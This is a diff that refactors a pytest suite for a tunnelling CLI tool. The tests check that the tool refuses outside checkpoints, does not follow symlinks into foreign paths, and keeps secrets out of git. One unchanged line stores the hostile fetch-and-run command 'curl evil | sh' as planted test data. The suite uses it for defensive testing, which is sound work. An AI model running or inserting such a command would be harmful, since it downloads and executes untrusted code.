@@ -13,7 +13,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.program import SOURCE, Shop, make_shop, run, running
+from tests.program import QUICK_TUNNEL, SOURCE, Shop, make_shop, run, tunnelling
 from twitter_setup.journal import digest
 
 PLANTED = b"curl evil | sh\n"
@@ -36,9 +36,7 @@ def plant(shop: Shop, victim: Path) -> None:
     (folder / "0001-passing.pending.json").write_text(json.dumps(checkpoint))
 
 
-@pytest.mark.parametrize(
-    "words", [["undo"], ["tunnel", "--two-origins", "--url", "https://a.example.com", "--yes"]]
-)
+@pytest.mark.parametrize("words", [["undo"], [*QUICK_TUNNEL]])
 def test_a_checkpoint_that_names_a_file_outside_is_refused(
     shop: Shop, tmp_path: Path, words: list[str]
 ) -> None:
@@ -82,7 +80,7 @@ def test_a_link_that_leads_out_is_said(shop: Shop, tmp_path: Path) -> None:
     shop.env.unlink()
     shop.env.symlink_to(real)
 
-    done = run("tunnel", "--two-origins", "--url", "https://a.example.com", "--yes", cwd=shop.root)
+    done = run(*QUICK_TUNNEL, cwd=shop.root)
 
     assert f"the file that is changed is {real}" in done.err
 
@@ -100,7 +98,7 @@ def test_links_in_a_folder_of_ours_that_a_repository_brought_are_not_followed(
     for name in ("checkpoints", "caddy"):
         (shop.state / name).symlink_to(outside)
 
-    words = ("tunnel", "--two-origins", "--url", "https://a.example.com", "--yes")
+    words = QUICK_TUNNEL
     assert run(*words, cwd=shop.root).code == 0
 
     assert profile.read_bytes() == b"export PATH\n"
@@ -113,7 +111,7 @@ def test_a_folder_of_ours_that_is_a_link_is_refused(shop: Shop, tmp_path: Path) 
     outside.mkdir()
     shop.state.symlink_to(outside)
 
-    words = ("tunnel", "--two-origins", "--url", "https://a.example.com", "--yes", "--json")
+    words = (*QUICK_TUNNEL, "--json")
     done = run(*words, cwd=shop.root)
 
     assert (done.code, done.error["code"]) == (1, "not_writable")
@@ -127,7 +125,7 @@ def test_a_gitignore_that_a_repository_brought_cannot_have_our_secrets_committed
     shop.state.mkdir()
     (shop.state / ".gitignore").write_text("!*\n")
 
-    run("tunnel", "--two-origins", "--url", "https://a.example.com", "--yes", cwd=shop.root)
+    run(*QUICK_TUNNEL, cwd=shop.root)
 
     assert (shop.state / ".gitignore").read_bytes() == b"*\n"
 
@@ -135,7 +133,7 @@ def test_a_gitignore_that_a_repository_brought_cannot_have_our_secrets_committed
 def test_a_session_file_cannot_make_us_end_a_process_with_another_configuration(
     shop: Shop,
 ) -> None:
-    run("tunnel", "--two-origins", "--url", "https://a.example.com", "--yes", cwd=shop.root)
+    run(*QUICK_TUNNEL, cwd=shop.root)
     marker = "/somebody/else.yml"
     other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", marker])
     session = shop.state / "session.json"
@@ -151,7 +149,7 @@ def test_a_session_file_cannot_make_us_end_a_process_with_another_configuration(
 
 def test_a_broken_session_does_not_keep_undo_from_its_work(shop: Shop) -> None:
     before = shop.env.read_bytes()
-    run("tunnel", "--two-origins", "--url", "https://a.example.com", "--yes", cwd=shop.root)
+    run(*QUICK_TUNNEL, cwd=shop.root)
     (shop.state / "session.json").write_text('{"pid": 1')
 
     done = run("undo", cwd=shop.root)
@@ -163,7 +161,7 @@ def test_a_broken_session_does_not_keep_undo_from_its_work(shop: Shop) -> None:
 def test_undo_and_status_are_about_the_back_end_that_one_stands_in(tmp_path: Path) -> None:
     one, two = make_shop(tmp_path / "apps" / "a"), make_shop(tmp_path / "apps" / "b")
     (tmp_path / ".git").mkdir()
-    run("tunnel", "--two-origins", "--url", "https://a.example.com", "--yes", cwd=one.backend)
+    run(*QUICK_TUNNEL, cwd=one.backend)
     changed = one.env.read_bytes()
 
     assert run("status", "--json", cwd=two.backend).json["data"]["changes"] == []
@@ -185,12 +183,7 @@ def test_a_home_that_cannot_be_used_stops_nothing(
     monkeypatch.setenv("HOME", "/dev/null")
     monkeypatch.setenv("XDG_STATE_HOME", "/dev/null/state")
 
-    assert (
-        run(
-            "tunnel", "--two-origins", "--url", "https://a.example.com", "--yes", cwd=shop.root
-        ).code
-        == 0
-    )
+    assert run(*QUICK_TUNNEL, cwd=shop.root).code == 0
     assert run("undo", cwd=shop.root).code == 0
 
 
@@ -215,7 +208,7 @@ def test_a_flag_wins_over_the_other_one_s_variable(
 
 def test_after_kill_9_urls_puts_back_first_and_calls_the_session_by_its_name(shop: Shop) -> None:
     before = shop.env.read_bytes()
-    run("tunnel", "--two-origins", "--url", "https://a.example.com", "--yes", cwd=shop.root)
+    run(*QUICK_TUNNEL, cwd=shop.root)
     session = shop.state / "session.json"
     session.write_text(session.read_text().replace('"kept": true', '"kept": false'))
 
@@ -232,11 +225,7 @@ def test_a_path_that_is_not_utf8_is_no_bug(tmp_path: Path) -> None:
     before = shop.env.read_bytes()
 
     done = run(
-        "tunnel",
-        "--two-origins",
-        "--url",
-        "https://a.example.com",
-        "--yes",
+        *QUICK_TUNNEL,
         "--json",
         cwd=shop.root,
     )
@@ -257,7 +246,7 @@ def test_nohup_holds(shop: Shop, tmp_path: Path) -> None:
     }
     former = signal.signal(signal.SIGHUP, signal.SIG_IGN)
     try:
-        with running("tunnel", "--yes", "--json", cwd=shop.root, env=env) as tunnel:
+        with tunnelling(cwd=shop.root, env=env) as tunnel:
             tunnel.event("ready")
             tunnel.process.send_signal(signal.SIGHUP)
             time.sleep(0.6)
